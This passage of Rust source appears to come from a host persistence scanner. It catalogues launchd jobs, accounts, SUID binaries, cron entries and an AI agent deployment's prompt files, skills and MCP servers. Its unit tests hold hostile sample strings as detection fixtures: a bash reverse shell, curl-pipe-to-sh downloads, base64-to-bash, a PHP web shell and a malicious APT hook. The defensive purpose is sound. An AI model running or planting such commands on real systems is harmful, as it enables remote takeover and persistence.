            it.detail = Some(crate::sanitize::escape(l));
            c.items.push(it);
        }
    }
}

fn launchd(c: &mut Ctx, m: &Mechanism, host: &Path) {
    for f in file_entries(c, host) {
        let Some(data) = c.read(&f) else { continue };
        let program = if data.starts_with(b"bplist") {
            binary_plist_program(&data)
        } else {
            plist_program(&String::from_utf8_lossy(&data))
        };
        let it = c.item(m.id, m.attack, &f, Some(&data));
        c.push(it, Some(&program));
    }
}

fn linger(c: &mut Ctx, m: &Mechanism, host: &Path) {
    for f in c.files(host) {
        let mut it = c.item(m.id, m.attack, &f, None);
        it.user = f.file_name().map(|n| n.to_string_lossy().into_owned());
        c.push(it, None);
    }
}

/// One item per account of the passwd file at `host`, flagged by the
/// account rules ([`super::rules::account_flags`]).
fn accounts(c: &mut Ctx, m: &Mechanism, host: &Path) {
    let passwd = c.root.join(host);
    let shells_text = crate::safefs::read_bounded(&c.root.join("/etc/shells"), 1 << 20)
        .map(|b| String::from_utf8_lossy(&b).into_owned())
        .unwrap_or_default();
    let shells: Vec<&str> = lines(shells_text.as_bytes()).collect();
    // Packaged service accounts with a shell, where their package is installed.
    let shell_ok: Vec<&str> = super::rules::SERVICE_SHELLS
        .iter()
        .filter(|(_, marker)| match c.packages() {
            Some(p) => p.owns(marker),
            None => crate::safefs::lstat(&c.root.join(marker))
                .ok()
                .flatten()
                .is_some(),
        })
        .map(|(name, _)| *name)
        .collect();
    let shadow = shadow_fields(&*c);
    let base = c.item(m.id, m.attack, &passwd, None);
    for u in c.users.clone() {
        let mut it = base.clone();
        it.user = Some(u.name.clone());
        for f in super::rules::account_flags(&u, c.uid_min, &shells, &shell_ok) {
            it.flag(f);
        }
        let pw = super::rules::password_state(shadow.get(&u.name).map(String::as_str));
        for f in super::rules::password_flags(&u, c.uid_min, pw) {
            it.flag(f);
        }
        // Quoted, so a trailing space in the shell shows.
        it.detail = Some(format!(
            "uid {} gid {} home {:?} shell {:?}",
            u.uid, u.gid, u.home, u.shell
        ));
        c.items.push(it);
    }
}

/// Files where nothing runs: their metadata and hash, even when unreadable.
fn listing(c: &mut Ctx, m: &Mechanism, host: &Path) {
    for f in file_entries(c, host) {
        let data = c.read(&f);
        let it = c.item(m.id, m.attack, &f, data.as_deref());
        c.items.push(it);
    }
}

/// OpenClaw's own mechanisms, read from the deployment rather than the
/// catalogue: the deployment says where they are.
fn openclaw(c: &mut Ctx, dep: &Deployment) {
    supervisors(c, dep);
    legacy_jobs(c, &dep.paths.state_dir);
    sqlite_jobs(c, &dep.paths.state_dir);
    let cfg = dep.config.clone().unwrap_or(Value::Null);
    hooks_setting(c, dep, &cfg);
    let places = AgentPlaces::of(dep);
    extensions(c, &places.extension_dirs);
    plugin_entries(c, dep, &cfg);
    skills(c, &places.skill_dirs);
    mcp_servers(c, dep, &cfg);
    prompt_files(c, &places);
}

fn supervisors(c: &mut Ctx, dep: &Deployment) {
    for s in &dep.runtime.supervisors {
        let data = c.read(&s.path);
        let mut it = c.item("openclaw-supervisor", "T1543.002", &s.path, data.as_deref());
        it.detail = Some(format!(
            "{} {} restart={}{}",
            s.kind,
            s.name,
            s.restart.as_deref().unwrap_or("no"),
            if s.restarts_on_kill {
                " (restarts a killed gateway)"
            } else {
                ""
            }
        ));
        let exec = data
            .as_deref()
            .and_then(|d| lines(d).find_map(|l| l.strip_prefix("ExecStart=").map(str::to_owned)));
        c.push(it, exec.as_deref());
    }
}

/// Scheduled agent jobs in the legacy `cron/jobs.json`.
fn legacy_jobs(c: &mut Ctx, state: &Path) {
    let legacy = state.join("cron/jobs.json");
    let Some(data) = c.read(&legacy) else { return };
    let base = c.item("openclaw-cron", "T1053", &legacy, Some(&data));
    if let Ok(v) = serde_json::from_slice::<Value>(&data) {
        for j in v
            .get("jobs")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
        {
            cron_job(c, &base, j);
        }
    }
}

/// Scheduled agent jobs in the state database's `cron_jobs` table.
fn sqlite_jobs(c: &mut Ctx, state: &Path) {
    let db = state.join("state/openclaw.sqlite");
    if crate::safefs::lstat(&db).ok().flatten().is_none() {
        return;
    }
    let conn = match crate::sqlite::open_isolated(&db) {
        Ok(conn) if crate::sqlite::has_table(&conn.conn, "cron_jobs") => conn,
        Ok(_) => return,
        Err(e) => {
            c.unreadable.push(format!("{}: {e:#}", db.display()));
            return;
        }
    };
    let base = c.item("openclaw-cron", "T1053", &db, None);
    let rows: Vec<(String, Option<String>, String)> = conn
        .conn
        .prepare("SELECT job_id, declaration_key, job_json FROM cron_jobs ORDER BY rowid")
        .and_then(|mut s| {
            s.query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))?
                .collect()
        })
        .unwrap_or_default();
    for (id, decl, json) in rows {
        let mut j: Value = serde_json::from_str(&json).unwrap_or(Value::Null);
        if j.get("declarationKey").is_none() && decl.is_some() {
            j["declarationKey"] = Value::from(decl);
        }
        if j.get("id").is_none() {
            j["id"] = Value::from(id);
        }
        cron_job(c, &base, &j);
    }
}

/// The `hooks` setting: whether webhooks can start agent turns.
fn hooks_setting(c: &mut Ctx, dep: &Deployment, cfg: &Value) {
    let Some(h) = config::get(cfg, "hooks").filter(|h| h.is_object()) else {
        return;
    };
    let mut it = c.item("openclaw-hooks", "T1546", &dep.paths.config, None);
    let mappings = h
        .get("mappings")
        .and_then(Value::as_array)
        .map_or(0, Vec::len);
    it.detail = Some(format!(
        "hooks enabled={} mappings={mappings} path={}",
        h.get("enabled").unwrap_or(&Value::Null),
        h.get("path").and_then(Value::as_str).unwrap_or("-")
    ));
    c.push(it, None);
}

/// Where the deployment and its agents keep code and prompts (local paths).
struct AgentPlaces {
    extension_dirs: Vec<PathBuf>,
    skill_dirs: Vec<PathBuf>,
    prompts: Vec<PathBuf>,
    /// Each workspace's `memory/`, whose notes sessions read back.
    memory_dirs: Vec<PathBuf>,
}

/// The files in a workspace that every session reads as instructions.
pub const PROMPT_FILES: &[&str] = &[
    "SOUL.md",
    "BOOT.md",
    "AGENTS.md",
    "MEMORY.md",
    "IDENTITY.md",
    "USER.md",
    "BOOTSTRAP.md",
    "TOOLS.md",
    "HEARTBEAT.md",
];

impl AgentPlaces {
    fn of(dep: &Deployment) -> AgentPlaces {
        let state = &dep.paths.state_dir;
        let mut p = AgentPlaces {
            extension_dirs: vec![state.join("extensions"), state.join("hooks")],
            skill_dirs: vec![state.join("skills"), state.join("plugin-skills")],
            prompts: Vec::new(),
            memory_dirs: Vec::new(),
        };
        for w in dep.agents.iter().filter_map(|a| a.workspace.as_ref()) {
            p.extension_dirs.push(w.join(".openclaw/extensions"));
            p.skill_dirs.push(w.join("skills"));
            p.prompts.extend(PROMPT_FILES.iter().map(|f| w.join(f)));
            p.memory_dirs.push(w.join("memory"));
        }
        p
    }
}

/// Installed extensions and hook packages, one item per package dir.
fn extensions(c: &mut Ctx, dirs: &[PathBuf]) {
    for d in dirs {
        let mech = if d.ends_with("hooks") {
            "openclaw-hooks"
        } else {
            "openclaw-plugin"
        };
        for e in c.files(&c.root.host_view(d)) {
            let pkg = c
                .read(&e.join("package.json"))
                .or_else(|| c.read(&e.join("openclaw.plugin.json")));
            let mut it = c.item(mech, "T1546", &e, pkg.as_deref());
            it.detail = pkg
                .and_then(|b| serde_json::from_slice::<Value>(&b).ok())
                .map(|v| {
                    format!(
                        "{} {}",
                        v.get("name").and_then(Value::as_str).unwrap_or("?"),
                        v.get("version").and_then(Value::as_str).unwrap_or("")
                    )
                });
            c.push(it, None);
        }
    }
}

fn plugin_entries(c: &mut Ctx, dep: &Deployment, cfg: &Value) {
    let Some(Value::Object(p)) = config::get(cfg, "plugins.entries") else {
        return;
    };
    for (name, v) in p {
        let mut it = c.item("openclaw-plugin", "T1546", &dep.paths.config, None);
        it.detail = Some(format!(
            "plugins.entries.{} enabled={}",
            crate::sanitize::escape(name),
            v.get("enabled").unwrap_or(&Value::Bool(true))
        ));
        c.items.push(it);
    }
}

/// Every SKILL.md a few levels under the skill dirs.
fn skills(c: &mut Ctx, dirs: &[PathBuf]) {
    static BLOB: OnceLock<Regex> = OnceLock::new();
    for d in dirs {
        let mut found = Vec::new();
        for e in walkdir::WalkDir::new(d).follow_links(false).max_depth(4) {
            match e {
                Ok(e) if e.file_name() == "SKILL.md" => found.push(e),
                Ok(_) => {}
                Err(e)
                    if e.io_error()
                        .is_some_and(|io| io.kind() == std::io::ErrorKind::NotFound) => {}
                Err(e) => c.unreadable.push(e.to_string()),
            }
        }
        for e in found {
            let Some(data) = c.read(e.path()) else {
                continue;
            };
            let text = String::from_utf8_lossy(&data).into_owned();
            let mut it = c.item("openclaw-skill", "T1546", e.path(), Some(&data));
            if re(&BLOB, r"[A-Za-z0-9+/]{60,}={0,2}").is_match(&text)
                && !it.flags.iter().any(|f| f == "base64_decode")
            {
                it.flags.push("base64_blob".into());
            }
            it.detail = text
                .lines()
                .find_map(|l| l.strip_prefix("name:"))
                .map(|n| n.trim().to_string());
            c.push(it, first_flagged_line(&text).as_deref());
        }
    }
}

fn mcp_servers(c: &mut Ctx, dep: &Deployment, cfg: &Value) {
    for key in ["mcp.servers", "nodeHost.mcp.servers"] {
        let Some(Value::Object(servers)) = config::get(cfg, key) else {
            continue;
        };
        for (name, s) in servers {
            let mut it = c.item("openclaw-mcp-server", "T1546", &dep.paths.config, None);
            it.detail = Some(format!("{key}.{}", crate::sanitize::escape(name)));
            c.push(it, Some(&mcp_command(s)));
        }
    }
}

/// What an MCP server definition runs: its command and args, or its URL.
fn mcp_command(s: &Value) -> String {
    match (
        s.get("command").and_then(Value::as_str),
        s.get("url").and_then(Value::as_str),
    ) {
        (Some(cmd), _) => {
            let args: Vec<&str> = s
                .get("args")
                .and_then(Value::as_array)
                .map(|a| a.iter().filter_map(Value::as_str).collect())
                .unwrap_or_default();
            format!("{cmd} {}", args.join(" "))
        }
        (None, Some(u)) => u.to_string(),
        _ => String::new(),
    }
}

fn prompt_files(c: &mut Ctx, places: &AgentPlaces) {
    for p in &places.prompts {
        script(c, "openclaw-prompt-file", "T1546", p);
    }
    for d in &places.memory_dirs {
        for f in memory_notes(d) {
            script(c, "openclaw-prompt-file", "T1546", &f);
        }
    }
}

/// The Markdown notes of a workspace's `memory/` (at most 1,000; a
/// symlinked dir is not followed).
fn memory_notes(local: &Path) -> Vec<PathBuf> {
    let Ok(Some(m)) = crate::safefs::lstat(local) else {
        return Vec::new();
    };
    if !m.is_dir() {
        return Vec::new();
    }
    let mut v: Vec<PathBuf> = std::fs::read_dir(local)
        .map(|rd| {
            rd.flatten()
                .take(1000)
                .map(|e| e.path())
                .filter(|p| p.extension().is_some_and(|x| x == "md"))
                .collect()
        })
        .unwrap_or_default();
    v.sort();
    v
}

fn cron_job(c: &mut Ctx, base: &Item, j: &Value) {
    let mut it = base.clone();
    let name = j.get("name").and_then(Value::as_str).unwrap_or("?");
    let decl = j.get("declarationKey").and_then(Value::as_str);
    it.user = j
        .get("agentId")
        .and_then(Value::as_str)
        .map(|a| format!("agent:{a}"));
    it.detail = Some(format!(
        "{} ({}) {}",
        crate::sanitize::escape(name),
        j.get("id").and_then(Value::as_str).unwrap_or("?"),
        decl.map_or("no declarationKey".to_string(), |d| format!(
            "declared by {d}"
        ))
    ));
    if decl.is_none() {
        it.flags.push("undeclared".into());
    }
    let payload = j.get("payload").map(|p| {
        p.get("message")
            .and_then(Value::as_str)
            .map(str::to_owned)
            .unwrap_or_else(|| p.to_string())
    });
    c.push(it, payload.as_deref());
}

/// Enumerates every mechanism: each catalogue location read with its
/// parser and judged, then the deployment's own.
pub fn run(dep: Option<&Deployment>, root: &Root, window: &Window) -> Report {
    run_against(dep, root, window, None)
}

/// [`run`], with a baseline's items when there is one: an account or an
/// SSH key that is not in it is flagged (`new_account`, `ssh_key_added`).
pub fn run_against(
    dep: Option<&Deployment>,
    root: &Root,
    window: &Window,
    baseline: Option<&[Item]>,
) -> Report {
    let mut c = Ctx::new(root, window);
    for loc in catalogue::locations(root, &c.users) {
        gather(&mut c, &loc);
    }
    if let Some(dep) = dep {
        openclaw(&mut c, dep);
    }
    file_attributes(&mut c);
    if let Some(base) = baseline {
        flag_new_since(&mut c.items, base);
    }
    c.finish()
}

/// SUID/SGID and capabilities in the bin dirs, and replaced critical
/// binaries ([`super::attributes`]), as items.
fn file_attributes(c: &mut Ctx) {
    use super::attributes as attr;
    let homes: Vec<String> = c.users.iter().map(|u| u.home.clone()).collect();
    let mut dirs: Vec<PathBuf> = Vec::new();
    let per_home = homes.iter().flat_map(|h| {
        attr::HOME_BIN_DIRS
            .iter()
            .map(move |d| format!("{}/{d}", h.trim_end_matches('/')))
    });
    let patterns: Vec<String> = attr::BIN_DIRS
        .iter()
        .map(|d| d.to_string())
        .chain(per_home)
        .collect();
    for p in patterns {
        for d in catalogue::expand(c.root, &p) {
            // /bin is /usr/bin under merged /usr: list it once.
            if let Some(real) = c.root.resolve(&d)
                && !dirs.contains(&real)
            {
                dirs.push(real);
            }
        }
    }
    let mut found = attr::scan_bins(c.root, &dirs, c.packages());
    if let Some(p) = c.packages() {
        found.extend(attr::replaced_binaries(c.root, p));
    }
    for a in found {
        let mut it = c.item(a.mechanism, a.attack, &a.local, None);
        // The package verdict is the attribute check's own, not `unpackaged`.
        it.flags.retain(|f| f != "unpackaged");
        for f in a.flags {
            it.flag(f);
        }
        it.detail = Some(a.detail);
        c.items.push(it);
    }
}

/// Flags accounts and SSH keys that a baseline did not have.
fn flag_new_since(items: &mut [Item], base: &[Item]) {
    // A key is told apart by its blob's hash, in the detail.
    let id = |i: &Item| format!("{}\u{0}{}", i.key(), i.detail.as_deref().unwrap_or(""));
    let known: HashSet<String> = base.iter().map(id).collect();
    for it in items {
        let flag = match it.mechanism.as_str() {
            "account" => "new_account",
            "ssh-authorized-keys" => "ssh_key_added",
            _ => continue,
        };
        if !known.contains(&id(it)) {
            it.flag(flag);
        }
    }
}

/// The programs persistence entries run that no package vouches for (host
/// paths, resolved under the root): `ir collect` takes them with the
/// entries, so a `pam_exec` script or a unit's `ExecStart` program is in
/// the bundle (and behind the quarantine's evidence gate).
pub fn untrusted_programs(root: &Root) -> Vec<PathBuf> {
    let window = Window::parse(Some("24h"), None, chrono::Utc::now()).expect("a fixed window");
    let mut c = Ctx::new(root, &window);
    for loc in catalogue::locations(root, &c.users) {
        gather(&mut c, &loc);
    }
    let mut v = std::mem::take(&mut c.programs);
    v.sort();
    v.dedup();
    v
}

/// Only the deployment's prompt files, judged exactly as [`run`] judges
/// them, without walking the rest of the host (recover asks this before
/// every start).
pub fn prompt_file_items(dep: &Deployment, root: &Root, window: &Window) -> Vec<Item> {
    let mut c = Ctx::new(root, window);
    prompt_files(&mut c, &AgentPlaces::of(dep));
    c.finish().items
}

/// The program a launchd plist runs (`Program` or `ProgramArguments`).
pub fn plist_program(text: &str) -> String {
    let flat: String = text.split_whitespace().collect::<Vec<_>>().join(" ");
    let strings = |after: &str| -> Vec<String> {
        flat.split(after)
            .nth(1)
            .map(|rest| {
                let end = rest.find("</array>").unwrap_or(rest.len().min(4096));
                rest[..end]
                    .split("<string>")
                    .skip(1)
                    .filter_map(|s| s.split("</string>").next())
                    .map(str::to_owned)
                    .collect()
            })
            .unwrap_or_default()
    };
    let args = strings("<key>ProgramArguments</key>");
    if !args.is_empty() {
        return args.join(" ");
    }
    strings("<key>Program</key>")
        .into_iter()
        .next()
        .unwrap_or_default()
}

/// The program a binary plist (`bplist00`, which launchd accepts as well
/// as XML) runs; empty when it does not parse or names none.
pub fn binary_plist_program(data: &[u8]) -> String {
    let Ok(v) = plist::Value::from_reader(std::io::Cursor::new(data)) else {
        return String::new();
    };
    let Some(d) = v.as_dictionary() else {
        return String::new();
    };
    if let Some(args) = d.get("ProgramArguments").and_then(|a| a.as_array()) {
        let words: Vec<&str> = args.iter().filter_map(|a| a.as_string()).collect();
        if !words.is_empty() {
            return words.join(" ");
        }
    }
    d.get("Program")
        .and_then(|p| p.as_string())
        .unwrap_or_default()
        .to_string()
}

/// Compares a run with a saved baseline.
pub fn diff(now: &[Item], base: &[Item]) -> Diff {
    let b: BTreeMap<String, &Item> = base.iter().map(|i| (i.key(), i)).collect();
    let n: BTreeMap<String, &Item> = now.iter().map(|i| (i.key(), i)).collect();
    let mut d = Diff::default();
    for (k, i) in &n {
        match b.get(k) {
            None => d.added.push((*i).clone()),
            Some(old) if old.sha256 != i.sha256 || old.mode != i.mode || old.owner != i.owner => {
                d.changed.push((*i).clone())
            }
            _ => {}
        }
    }
    for (k, i) in &b {
        if !n.contains_key(k) {
            d.removed.push((*i).clone());
        }
    }
    d
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn cron_lines() {
        assert_eq!(
            parse_cron_line("*/5 * * * * root /usr/bin/x --y", true),
            Some((
                "*/5 * * * *".into(),
                Some("root".into()),
                "/usr/bin/x --y".into()
            ))
        );
        assert_eq!(
            parse_cron_line("@reboot /tmp/.x", false),
            Some(("@reboot".into(), None, "/tmp/.x".into()))
        );
        assert_eq!(parse_cron_line("SHELL=/bin/sh", true), None);
    }

    #[test]
    fn flags() {
        assert_eq!(
            text_flags("curl -fsSL http://x/i.sh | sh"),
            ["download_exec"]
        );
        assert!(text_flags("echo aGk= | base64 -d | bash").contains(&"base64_decode"));
        assert!(text_flags("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1").contains(&"reverse_shell"));
        assert!(text_flags("/tmp/.x/run").contains(&"runs_from_tmp"));
        assert!(text_flags("/home/u/.hidden/run").contains(&"runs_from_tmp"));
        assert!(text_flags("/usr/bin/node /home/u/.local/lib/openclaw.mjs gateway").is_empty());
        // The tmp dirs themselves, or a variable under them, run nothing.
        assert!(text_flags("if mountpoint -q /dev/shm/; then").is_empty());
        assert!(text_flags(r#"DIR="/tmp/$1""#).is_empty());
        assert!(text_flags("/dev/shm/.x").contains(&"runs_from_tmp"));
        assert_eq!(text_flags("<?php system($_GET['c']); ?>"), ["web_shell"]);
        assert_eq!(text_flags("eval(base64_decode($x));"), ["web_shell"]);
        assert!(text_flags("wget http://91.92.242.30/x").contains(&"ioc"));
    }

    #[test]
    fn apt_hooks_in_every_form() {
        let debian = "// x\nAPT::Update::Pre-Invoke {\n  \"curl x | sh\";\n};\n";
        assert_eq!(apt_hooks(debian), ["curl x | sh"]);
        assert_eq!(apt_hooks(r#"DPkg::Post-Invoke {"a"; "b";};"#), ["a", "b"]);
        assert_eq!(
            apt_hooks(r#"APT::Update::Post-Invoke-Success:: "c";"#),
            ["c"]
        );
        assert!(apt_hooks(r#"APT::Periodic::Update-Package-Lists "1";"#).is_empty());
    }

    #[test]
    fn plist() {
        let p = "<plist><dict><key>Label</key><string>x</string><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl x|sh</string></array></dict></plist>";
        assert_eq!(plist_program(p), "/bin/sh -c curl x|sh");
        let mut bin = Vec::new();
        plist::Value::from_reader_xml(p.as_bytes())
            .unwrap()
            .to_writer_binary(&mut bin)
            .unwrap();
        assert!(bin.starts_with(b"bplist00"));
        assert_eq!(binary_plist_program(&bin), "/bin/sh -c curl x|sh");
        assert_eq!(binary_plist_program(b"bplist00garbage"), "");
    }

    #[test]
    fn runs_picks_the_program() {
        assert_eq!(
            pick(
                Runs::Module,
                "install usb-storage /tmp/.x; /sbin/modprobe --ignore-install usb-storage"
            ),
            Some("usb-storage /tmp/.x; /sbin/modprobe --ignore-install usb-storage".into())
        );
        assert_eq!(
            pick(Runs::Module, "diamorphine"),
            Some("diamorphine".into())
        );
        assert_eq!(pick(Runs::Module, "blacklist pcspkr"), None);
        assert_eq!(
            pick(Runs::Git, "up = !curl x | sh"),
            Some("curl x | sh".into())
        );
        assert_eq!(pick(Runs::Git, "pager = less -R"), Some("less -R".into()));
        assert_eq!(pick(Runs::Git, "name = Alice"), None);
        let ssh = Runs::Keyword(&["ProxyCommand"]);
        assert_eq!(
            pick(ssh, "ProxyCommand=ssh -W %h:%p bastion"),
            Some("ssh -W %h:%p bastion".into())
        );
        assert_eq!(pick(ssh, "proxycommand  nc %h %p"), Some("nc %h %p".into()));
        assert_eq!(pick(ssh, "ProxyJump bastion"), None);
        assert_eq!(
            pick(Runs::UdevRun, r#"ACTION=="add", RUN+="/tmp/.u""#),
            Some("/tmp/.u".into())
        );
        assert_eq!(
            pick(
                Runs::AptInvoke,
                r#"APT::Update::Pre-Invoke {"curl x | sh";};"#
            ),
            Some("curl x | sh".into())
        );
        assert_eq!(
            pick(Runs::Anacron, "1 5 cron.daily run-parts /etc/cron.daily"),
            Some("run-parts /etc/cron.daily".into())
        );
    }

    proptest! {
        #[test]
        fn parsers_never_panic(s in "\\PC{0,200}") {
            for runs in [Runs::WholeLine, Runs::Module, Runs::Containing("x"), Runs::Keyword(&["K"]), Runs::Anacron, Runs::UdevRun, Runs::AptInvoke, Runs::Git] {
                let _ = pick(runs, &s);
            }
            let _ = parse_cron_line(&s, true);
            let _ = text_flags(&s);
            let _ = plist_program(&s);
        }

        #[test]
        fn binary_plists_never_panic(tail in proptest::collection::vec(any::<u8>(), 0..400)) {
            let mut b = b"bplist00".to_vec();
            b.extend(tail);
            let _ = binary_plist_program(&b);
        }
    }
}
